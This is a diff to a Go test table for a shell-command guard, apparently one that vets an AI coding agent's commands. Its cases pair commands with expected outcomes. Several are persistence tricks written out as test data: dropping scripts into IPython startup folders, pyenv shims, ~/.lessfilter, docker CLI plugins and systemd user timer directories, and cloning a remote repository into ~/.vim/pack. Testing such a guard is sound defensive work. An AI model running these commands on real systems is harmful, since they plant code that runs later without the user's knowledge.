@@ -19,7 +19,7 @@ func TestFix11dLater(t *testing.T) {
 		{finding: "H1v tee into an IPython profile's start-up", setup: xsh, cmd: `tee ~/.ipython/profile_work/startup/a.py < x.py`, want: denied, fixed: true},
 		{finding: "H1v a variable naming the plugin directory", setup: xsh, cmd: `d=~/.docker/cli-plugins; cp x.sh "$d/docker-x"`, want: held, fixed: true},
 		{finding: "H1v $HOME spelling of the IPython start-up", setup: xsh, cmd: `cp x.py "$HOME/.ipython/profile_default/startup/01.py"`, want: denied, fixed: true},
-		{finding: "H1v a systemd user unit beside the wants directory", setup: xsh, cmd: `cp x.sh ~/.config/systemd/user/x.service`, want: denied, fixed: true},
+		{finding: "H1v a unit linked into timers.target.wants", setup: xsh, cmd: `ln -s "$PWD/x.sh" ~/.config/systemd/user/timers.target.wants/x.timer`, want: denied, fixed: true},
 		{finding: "H1v python3 in pyenv's shims", setup: xsh, cmd: `cp x.sh ~/.pyenv/shims/python3.12`, want: denied, fixed: true},
 		{finding: "H1v a vim package cloned into ~/.vim/pack", cmd: `git clone https://192.0.2.1/x.git ~/.vim/pack/x/start/x`, want: held, fixed: true},
 		{finding: "H1v ~/.lessfilter (lesspipe runs it)", setup: xsh, cmd: `cp x.sh ~/.lessfilter`, want: denied, fixed: true},
@@ -76,6 +76,7 @@ func TestFix11dLater(t *testing.T) {
 		{finding: "ordinary Write of CLAUDE.md with imports", cmd: "# Notes\nSee @README.md for the layout.\n", write: "@ROOT@/proj/CLAUDE.md", want: notHeld, fixed: true},
 		{finding: "ordinary build into bin after a cd to the top", cmd: `cd "$(git rev-parse --show-toplevel)" && mkdir -p bin && go build -o bin/app .`, want: notHeld, fixed: true},
 		{finding: "ordinary read of the runs-later files", cmd: `cat ~/.vimrc ~/.config/Code/User/settings.json; ls ~/.docker/cli-plugins`, want: notHeld, fixed: true},
+		{finding: "ordinary user service set up (its Exec line is read)", cmd: `mkdir -p ~/.config/systemd/user && printf '[Service]\nExecStart=/usr/bin/python3 -m http.server 8000\n' > ~/.config/systemd/user/docs.service`, want: notHeld, fixed: true},
 		{finding: "ordinary Continue rule in the project", cmd: `mkdir -p .continue/rules && printf 'Use tabs.\n' > .continue/rules/style.md`, want: notHeld, fixed: true},
 		{finding: "ordinary go install of gopls", cmd: `go install golang.org/x/tools/gopls@latest`, want: notHeld, fixed: true},
 	}
